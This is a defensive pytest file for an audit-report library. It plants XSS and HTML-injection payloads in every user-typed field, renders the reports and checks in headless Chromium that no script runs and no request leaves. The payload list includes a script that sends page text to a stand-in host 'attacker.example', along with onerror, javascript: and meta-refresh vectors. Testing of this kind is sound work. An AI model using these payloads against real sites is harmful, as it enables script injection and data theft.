"""Hostile input rendered through the real notebooks and opened in headless Chromium.

A copy of the demo data carries the issue's payloads wherever a person types text that a
report shows: every team name (so the funnel sentence names them), programme.yml's
organisation, programme, month labels, pause reason and contact, recommendations.yml's
texts and link URLs, and feedback. The month's report and the shift report by team are
produced by the real command path (papermill, nbconvert), then opened offline in
Chromium with a dialog handler and a request counter: no dialog may open and no request
may leave. The same outputs must hold none of the identifiers planted next to the payloads.
"""

from __future__ import annotations

import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml

from auditlib.paths import NOTEBOOKS_DIR
from auditlib.publish import export
from auditlib.publish.runner import run_month
from auditlib.publish.shifts import run_shift_report

pytestmark = [pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "data" / "demo"
CHROMIUM = Path(shutil.which("chromium") or "/usr/bin/chromium")
ATTACKER = "attacker.example"
MONTH = "2020-09"

#: Each would run a script, open a dialog or make a request if it reached the page as HTML.
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    f"<script>fetch('http://{ATTACKER}/?q='+document.body.innerText)</script>",
    f'<svg><image href="http://{ATTACKER}/svg.png"/></svg>',
    f'<video poster="http://{ATTACKER}/poster.png"></video>',
    f'<meta http-equiv="refresh" content="0;url=http://{ATTACKER}/refresh">',
    f'<iframe src="http://{ATTACKER}/frame"></iframe>',
    '<a href="javascript:alert(2)">click</a>',
    f'<img srcset="http://{ATTACKER}/srcset.png 1x" alt="">',
    f'<div style="background:url(http://{ATTACKER}/bg.png)">x</div>',
    f'<link rel="stylesheet" href="http://{ATTACKER}/style.css">',
    "[click me](javascript:alert(3))",
    f"![chart](http://{ATTACKER}/markdown.png)",
    "<style>@import 'http://attacker.example/import.css';</style>",
    "<object data='http://attacker.example/o'></object><embed src='http://attacker.example/e'>",
    "<body onload=alert(4)><details open ontoggle=alert(5)>",
]
#: Identifiers planted beside the payloads: none may reach any output.
IDENTIFIERS = ["C8756263", "07700 900123", "jane.smith@example.org", "Priya Okafor", "Jayden"]


def _hostile(text: str, n: int) -> str:
    return f"{text} {PAYLOADS[n % len(PAYLOADS)]}"


def hostile_data(root: Path) -> Path:
    """The demo data with a payload in every field a report shows from input."""
    data = root / "hostile-data"
    shutil.copytree(DEMO, data)
    audits = pd.read_csv(data / "audits.csv", dtype=str, keep_default_na=False)
    teams = sorted({" ".join(t.lower().split()) for t in audits["team"]})
    payload_of = {team: n for n, team in enumerate(teams)}
    audits["team"] = [
        _hostile(t, payload_of[" ".join(t.lower().split())]) for t in audits["team"].tolist()
    ]
    first = audits["team"] == audits["team"].iloc[0]
    audits.loc[first, "team"] = audits.loc[first, "team"] + " Jayden C8756263"
    audits.to_csv(data / "audits.csv", index=False)

    programme = yaml.safe_load((data / "programme.yml").read_text(encoding="utf-8"))
    programme["organisation"] = _hostile("Example Council", 1)
    programme["programme"] = _hostile("Case audits", 0)
    programme["contact"] = _hostile("Priya Okafor on 07700 900123, jane.smith@example.org", 4)
    programme["month_labels"] = {
        MONTH: _hostile("September 2020", 3),
        "2019-07": _hostile("J/A", 2),
    }
    programme["pauses"][1]["reason"] = _hostile("COVID-19 C8756263", 5)
    (data / "programme.yml").write_text(yaml.safe_dump(programme), encoding="utf-8")

    recommendations = yaml.safe_load((data / "recommendations.yml").read_text(encoding="utf-8"))
    month = recommendations[MONTH]
    month["high_priority"] = [_hostile("Act now", n) for n in range(len(PAYLOADS))] + [
        {
            "text": "Links",
            "items": [
                {"text": "script link", "url": "javascript:alert(6)"},
                {"text": "mail link", "url": "mailto:jane.smith@example.org?subject=C8756263"},
                {"text": "data link", "url": "data:text/html,<script>alert(7)</script>"},
                {"text": "web link", "url": f"https://{ATTACKER}/ok"},
            ],
        }
    ]
    (data / "recommendations.yml").write_text(yaml.safe_dump(recommendations), encoding="utf-8")

    feedback = pd.read_csv(data / "feedback.csv", dtype=str, keep_default_na=False)
    in_month = feedback.index[feedback["audit_month"] == MONTH]
    for n, row in enumerate(in_month):
        feedback.loc[row, "text"] = (
            f"Great work\n---\n    indented {PAYLOADS[n % len(PAYLOADS)]}\n# heading"
        )
    feedback.to_csv(data / "feedback.csv", index=False)
    return data


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile")
    data = hostile_data(root)
    out = root / "out"
    monthly = run_month(NOTEBOOKS_DIR / "monthly_highlights.ipynb", MONTH, data, out)
    shifts = run_shift_report("2019-10:2020-02", "2020-06:2020-09", "team", data, out)
    return {"monthly": monthly, "shifts": shifts}


def _outputs(reports: dict[str, Path]) -> list[Path]:
    return [p for html in reports.values() for p in html.parent.iterdir() if p.is_file()]


def test_the_payloads_reach_the_pages_as_text(hostile_reports):
    page = hostile_reports["monthly"].read_text(encoding="utf-8")
    # Shown, escaped, where the data put them: in the team table, sentences and headings.
    assert "&lt;script&gt;fetch(" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "Great work --- indented" in page  # a multi-line answer stayed in its quote
    shifts = hostile_reports["shifts"].read_text(encoding="utf-8")
    assert "onerror=alert(1)&gt;" in shifts


class _Tags(HTMLParser):
    """Every element and attribute of a page, as the browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def test_no_page_holds_a_script_handler_frame_or_remote_url(hostile_reports):
    for html in hostile_reports.values():
        page = html.read_text(encoding="utf-8")
        export.check_offline(page)  # would raise
        parser = _Tags()
        parser.feed(page)
        tags = {tag for tag, _ in parser.tags}
        assert not tags & {"script", "iframe", "object", "embed", "video", "svg", "image", "link"}
        attributes = [
            (tag, name, value) for tag, attrs in parser.tags for name, value in attrs.items()
        ]
        assert not [a for a in attributes if a[1].startswith("on")]
        assert not [a for a in attributes if a[1] in ("srcset", "poster", "style")]
        links = [value for tag, name, value in attributes if name == "href"]
        assert all(link.startswith("#") or link.startswith("https://") for link in links), links
        if html == hostile_reports["monthly"]:
            assert f"https://{ATTACKER}/ok" in links  # the one allowed link survived
        sources = [value for tag, name, value in attributes if name == "src"]
        assert all(src.startswith("data:image/") for src in sources)
        metas = [attrs.get("http-equiv", "").lower() for tag, attrs in parser.tags if tag == "meta"]
        assert "refresh" not in metas and "content-security-policy" in metas


def test_no_planted_identifier_reaches_any_output(hostile_reports):
    for path in _outputs(hostile_reports):
        text = path.read_text(encoding="utf-8", errors="replace")
        for identifier in IDENTIFIERS:
            assert identifier not in text, f"{identifier} in {path.name}"


# ---------------------------------------------------------------- in the browser
@pytest.fixture(scope="module")
def browser() -> Any:
    sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright is missing")
    if not CHROMIUM.exists():
        pytest.skip("Chromium is missing: run `python3 tasks.py browser-deps`")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
            headless=True,
        )
        try:
            yield browser
        finally:
            browser.close()


def open_page(browser: Any, path: Path) -> tuple[list[str], list[str]]:
    """Open ``path`` offline; returns the dialogs that opened and the requests attempted."""
    own = path.resolve().as_uri()
    dialogs: list[str] = []
    requests: list[str] = []
    context = browser.new_context(service_workers="block")

    def route(request_route: Any) -> None:
        if request_route.request.url.split("#")[0] == own:
            request_route.continue_()
        else:
            requests.append(request_route.request.url)
            request_route.abort()

    try:
        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on(
            "request",
            lambda request: (
                request.url.split("#")[0] != own
                and not request.url.startswith("data:")
                and request.url not in requests
                and requests.append(request.url)
            ),
        )
        page.goto(own, wait_until="load")
        page.wait_for_timeout(1500)  # a meta refresh or a timer would fire by now
        # Toggle every details element and hover every link: handlers would fire.
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = !d.open)")
        page.wait_for_timeout(300)
    finally:
        context.close()
    return dialogs, requests


def test_the_harness_sees_dialogs_and_requests(browser, tmp_path):
    bad = tmp_path / "bad.html"
    bad.write_text(
        f"<html><body><img src=x onerror=alert(1)><img src='http://{ATTACKER}/x.png'></body></html>",
        encoding="utf-8",
    )
    dialogs, requests = open_page(browser, bad)
    assert dialogs == ["1"]
    assert any(ATTACKER in url for url in requests)


@pytest.mark.browser
@pytest.mark.parametrize("report", ["monthly", "shifts"])
def test_hostile_reports_open_no_dialog_and_send_no_request(browser, hostile_reports, report):
    dialogs, requests = open_page(browser, hostile_reports[report])
    assert dialogs == []
    assert requests == []


@pytest.mark.browser
def test_the_index_opens_no_dialog_and_sends_no_request(browser, hostile_reports):
    index = hostile_reports["monthly"].parent.parent / "index.html"
    if not index.is_file():  # run_month alone writes no index: write it the way runs do
        from auditlib.publish.index import write_index

        write_index(index.parent)
    dialogs, requests = open_page(browser, index)
    assert dialogs == [] and requests == []
